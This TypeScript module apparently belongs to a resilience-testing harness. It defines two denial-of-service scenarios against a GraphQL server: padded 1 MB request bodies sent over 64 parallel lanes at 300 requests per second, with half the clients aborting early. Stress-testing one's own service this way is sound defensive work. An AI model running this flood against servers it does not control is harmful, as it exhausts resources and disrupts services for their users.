/**
 * Bodies of 1 MB, cheap to send and slow to parse: a free query beside a list of objects. The list has the allowed number of objects, or
 * more. Every second client leaves before its answer.
 */
import { postUntil, type Attack } from '../attack.ts'

const bodyOf = (values: string) => `{"query":"{ __typename }","extensions":{"fill":[${values}{}]}}`
const REFUSED = bodyOf('{},'.repeat(340_000))
const ALLOWED = bodyOf(`{"key":"${'v'.repeat(9)}"},`.repeat(49_900))
/** Milliseconds: long enough to send the body to a busy process. */
const LEAVES_AFTER_MS = 50

const attackWith = (title: string, body: string): Attack => ({
  title,
  role: 'start',
  run: (target, signal) =>
    postUntil(
      target,
      signal,
      { lanes: 64, perSecond: 300, leavesAfterMs: (index) => (index % 2 === 0 ? LEAVES_AFTER_MS : undefined) },
      () => body,
    ),
})

export const attacks: readonly Attack[] = [
  attackWith('large bodies, half of them aborted', REFUSED),
  attackWith('large bodies of as many values as allowed, half of them aborted', ALLOWED),
]
